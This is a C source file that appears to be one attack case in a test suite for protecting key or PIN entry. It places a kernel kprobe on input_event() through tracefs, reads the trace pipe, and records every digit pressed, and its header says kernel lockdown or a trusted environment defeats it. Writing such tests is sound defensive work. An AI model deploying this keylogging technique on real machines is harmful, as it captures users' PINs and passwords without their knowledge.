// SPDX-License-Identifier: Apache-2.0
/*
 * Has the kernel trace its own input_event() (tracefs, kprobe_events): every key, before
 * anybody's grab.
 *
 * attack: kprobe_keys
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * defence: boot
 * why: a probe in the kernel sees what the kernel sees; lockdown refuses kprobes, and the
 *	REE has no tracefs
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "digits.h"
#include "evdev.h"
#include "file.h"
#include "report.h"

#define FOLDER	"/tmp/tracing"
#define PROBE	"p:attack_key input_event type=%si:u32 code=%dx:u32 value=%cx:s32"
#define ENABLE	FOLDER "/events/kprobes/attack_key/enable"

static int start(void)
{
	int ret;

	mkdir(FOLDER, 0700);
	if (mount("none", FOLDER, "tracefs", 0, NULL))
		attack_note("tracefs: %s", strerror(errno));
	ret = file_write(FOLDER "/kprobe_events", PROBE);
	return ret ? ret : file_write(ENABLE, "1");
}

static void stop(void)
{
	file_write(ENABLE, "0");
	file_write(FOLDER "/kprobe_events", "-:attack_key");
	umount2(FOLDER, MNT_DETACH);
}

/* "... attack_key: (input_event+0x0/0x70) type=1 code=6 value=1" */
static void parse(const char *text, struct digits *d)
{
	unsigned int type, code;
	int value;

	while ((text = strstr(text, "type="))) {
		if (sscanf(text, "type=%u code=%u value=%d", &type, &code, &value) == 3 &&
		    type == 1 && value == 1)
			digits_add(d, evdev_digit(code));
		text++;
	}
}

static void collect(int fd, struct digits *d)
{
	char text[8192];
	ssize_t got;

	while ((got = read(fd, text, sizeof(text) - 1)) > 0) {
		text[got] = '\0';
		parse(text, d);
	}
}

int main(void)
{
	struct digits digits = { 0 };
	int fd, ret;

	attack_init();
	ret = start();
	fd = open(FOLDER "/trace_pipe", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	attack_ready();
	if (ret || fd < 0)
		attack_failed("no probe: %s", strerror(ret ? -ret : errno));
	while (!attack_wait(100))
		collect(fd, &digits);
	close(fd);
	stop();
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
